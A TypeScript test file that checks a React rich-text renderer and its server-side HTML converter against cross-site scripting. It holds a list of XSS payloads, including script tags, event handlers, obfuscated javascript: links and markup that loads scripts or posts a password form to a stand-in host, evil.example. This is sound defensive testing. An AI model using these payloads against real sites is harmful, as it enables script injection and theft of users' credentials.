import { render } from '@testing-library/react';
import { expect, test } from 'vitest';
import { toHtml } from '../server/to-html.ts';
import { RichText } from './rich-text.tsx';

/** What attackers write, one input a test. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="//evil.example"><input name=password></form>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="//evil.example/x.swf">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div style="position:fixed;inset:0">x</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](https://a.example "title" onmouseover=alert(1))',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://a.example/x.png)',
  '<javascript:alert(1)>',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '`<img src=x onerror=alert(1)>`',
];
/** Where they put it. */
const places: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `# ${vector}`,
  (vector) => `- ${vector}\n- **${vector}**`,
  (vector) => `> ${vector}\n\n\`\`\`html\n${vector}\n\`\`\``,
  (vector) => `|${vector}|\n|---|\n|${vector}|`,
  (vector) => `_${vector}_ [${vector}](https://a.example/)`,
];
const corpus = vectors.flatMap((vector) => places.map((place) => place(vector)));

const elements =
  'a blockquote code del em h3 h4 h5 h6 li ol p pre strong table tbody td th thead tr ul div'.split(' ');
const attributes = ['href', 'rel', 'target', 'class', 'dir', 'start', 'scope'];

function findFaults(root: Element, text: string): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const names = element.getAttributeNames().filter((name) => !attributes.includes(name));
    const href = element.getAttribute('href') ?? 'https://';
    const isSafe =
      elements.includes(element.localName) && names.length === 0 && /^(https?:|mailto:)/.test(href);
    return isSafe ? [] : [`${element.outerHTML} in ${text}`];
  });
}

test('no text of more than 200 hostile ones becomes more than safe elements, on the screen or in the API', () => {
  expect(corpus.length).toBeGreaterThan(200);
  for (const text of corpus) {
    const { container, unmount } = render(<RichText text={text} />);
    expect(findFaults(container.firstElementChild!, text)).toEqual([]);
    unmount();
    const page = new DOMParser().parseFromString(toHtml(text), 'text/html');
    expect(findFaults(page.body, text)).toEqual([]);
    expect(page.head.children).toHaveLength(0);
  }
});

test('what is meant is shown: both sides make the same elements', () => {
  const text =
    '## Steps\n\n1. Open **Account**\n2. Press `Save` at [our site](https://a.example/b)\n\n> Done';
  const html = toHtml(text);
  expect(html).toBe(
    '<h3>Steps</h3><ol><li>Open <strong>Account</strong></li><li>Press <code>Save</code> at <a href="https://a.example/b" rel="noopener noreferrer">our site</a></li></ol><blockquote><p>Done</p></blockquote>',
  );
  const { container } = render(<RichText text={text} />);
  const listNames = (root: Element) => [...root.querySelectorAll('*')].map(({ localName }) => localName);
  const page = new DOMParser().parseFromString(html, 'text/html');
  expect(listNames(container.firstElementChild!)).toEqual(listNames(page.body));
});

test('tables and boxes of checklists are shown', () => {
  const text = 'Prices:\n\n| Name | Price |\n| --- | --- |\n| **Figs** | 3 |\n\n- [x] Order\n- [ ] Pay';
  const { container } = render(<RichText text={text} />);
  const cells = [...container.querySelectorAll('th, td')].map(({ textContent }) => textContent);
  expect(cells).toEqual(['Name', 'Price', 'Figs', '3']);
  const items = [...container.querySelectorAll('li')].map(({ textContent }) => textContent);
  expect(items).toEqual(['☑ Order', '☐ Pay']);
  expect(toHtml(text)).toContain('<table><thead><tr><th>Name</th><th>Price</th></tr></thead>');
});

test('links to pages of the product stay in it', () => {
  expect(toHtml('[here](/apps/todo?x=1)')).toContain('href="/apps/todo?x=1"');
});
